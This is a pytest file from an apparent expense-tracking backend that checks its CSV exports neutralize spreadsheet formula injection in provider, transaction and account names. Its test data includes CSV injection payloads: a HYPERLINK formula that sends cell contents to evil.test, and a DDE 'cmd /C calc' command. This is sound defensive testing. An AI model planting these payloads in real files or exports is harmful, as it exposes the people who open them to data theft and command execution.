"""CSV injection: every CSV export neutralizes cells a spreadsheet would run as a formula, and keeps the data."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from decimal import Decimal
from typing import Any

import pytest

from backend.csv_safe import cell
from backend.models import ProviderAccount
from backend.services.ingest import ingest
from integrations.records import UsageRecord
from tests.conftest import Api
from tests.test_transactions_api import make_bank

# What an attacker puts in a name a spreadsheet shows: a formula, a DDE command, a sign, an @-function, and the
# tab and carriage return that some spreadsheets skip before reading the rest as a formula.
ATTACKS = ['=HYPERLINK("http://evil.test/?x="&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd"]
WHITESPACE_ATTACKS = ["\t=1+1", "\r=1+1"]


def neutralized(value: str) -> str:
    return "'" + value


def export(api: Api, token: str, path: str, **params: Any) -> list[dict[str, str]]:
    with api.call("GET", path, token, query_string=params) as response:
        assert response.status_code == 200, response.get_data(as_text=True)
        assert response.mimetype == "text/csv"
        return list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (Decimal("-12.50"), "-12.50"),  # numbers are data: a negative amount stays a number
        (-3, "-3"),
        ("-3", "'-3"),  # text that looks like a number is still text from outside
    ],
)
def test_cell(value: Any, shown: str) -> None:
    assert cell(value) == shown


def test_usage_export_neutralizes_provider_names(app: Any, api: Api, owner: dict[str, Any]) -> None:
    """The attack: a provider account reports usage whose model and project names are formulas."""
    token = owner["access_token"]
    body = {"kind": "demo", "name": "Demo", "credentials": {"api_key": "demo-csv-injection-0000"}}
    account_id = api.call("POST", "/api/accounts", token, json=body).get_json()["id"]
    day = dt.datetime.now(dt.UTC).replace(hour=0, minute=0, second=0, microsecond=0)
    names = ATTACKS + WHITESPACE_ATTACKS + ["gpt-4o"]
    records = [
        UsageRecord(
            bucket_start=day,
            bucket_width="1d",
            kind="completions",
            model=name,
            project=name,
            line_item=name,
            input_tokens=10 + i,
            cost=Decimal("-1.25") if i == 0 else Decimal("0.5"),  # a credit: negative, and still a number
        )
        for i, name in enumerate(names)
    ]
    with app.extensions["spendwatch"].db.system_session() as session:
        ingest(session=session, account=session.get(ProviderAccount, account_id), records=records)

    rows = export(api, token, "/api/usage/export", **{"from": str(day.date()), "to": str(day.date())})
    assert len(rows) == len(names)
    by_tokens = {int(r["input_tokens"]): r for r in rows}
    for i, name in enumerate(names):
        row = by_tokens[10 + i]
        expected = name if name == "gpt-4o" else neutralized(name)
        assert (row["model"], row["project"], row["line_item"]) == (expected, expected, expected)
        assert Decimal(row["cost"]) == (Decimal("-1.25") if i == 0 else Decimal("0.5"))
        assert row["provider"] == "demo" and row["account_id"] == str(account_id)

    # The JSON lines export is data, not a spreadsheet: names there are exactly what was stored.
    params = {"from": str(day.date()), "to": str(day.date()), "format": "json"}
    with api.call("GET", "/api/usage/export", token, query_string=params) as response:
        lines = response.get_data(as_text=True).splitlines()
    assert sorted(json.loads(line)["model"] for line in lines) == sorted(names)


def test_transaction_export_neutralizes_every_text_cell(api: Api, owner: dict[str, Any]) -> None:
    """The attack: a statement row (or a member) puts formulas in description, merchant, notes and account name."""
    token = owner["access_token"]
    bank = make_bank(api, token, "=cmd|' /C calc'!A0")
    for i, attack in enumerate(ATTACKS + WHITESPACE_ATTACKS):
        body = {
            "bank_account_id": bank,
            "posted_on": f"2024-01-{i + 1:02d}",
            "amount": "-12.50",
            "description": f"Shop {i}" if attack in WHITESPACE_ATTACKS else attack,  # stripped on input
            "merchant": attack.strip(),
            "notes": attack,
        }
        response = api.call("POST", "/api/transactions", token, json=body)
        assert response.status_code == 201, response.get_json()

    rows = export(api, token, "/api/transactions/export", sort="date")
    assert len(rows) == len(ATTACKS + WHITESPACE_ATTACKS)
    for i, (row, attack) in enumerate(zip(rows, ATTACKS + WHITESPACE_ATTACKS, strict=True)):
        assert row["description"] == (f"Shop {i}" if attack in WHITESPACE_ATTACKS else neutralized(attack))
        assert row["merchant"] == neutralized(attack.strip())
        assert row["notes"] == neutralized(attack)
        assert row["account"] == neutralized("=cmd|' /C calc'!A0")
        assert (row["amount"], row["currency"], row["pending"]) == ("-12.50", "USD", "false")
